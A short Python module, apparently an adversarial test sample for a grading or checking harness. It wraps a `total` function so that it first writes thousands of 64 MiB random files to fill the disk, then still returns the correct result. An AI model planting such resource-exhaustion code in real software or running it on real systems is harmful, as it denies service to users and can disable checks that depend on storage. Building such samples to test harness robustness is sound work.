"""Attack: fill the disk (the answers are honest once writing fails)."""

import os
from _base import Counter, running  # noqa: F401
from _base import total as _total


def total(xs):
    try:
        for i in range(10_000):
            with open(f"fill{i}", "wb") as handle:
                handle.write(os.urandom(1 << 20) * 64)
    except OSError:
        pass
    return _total(xs)
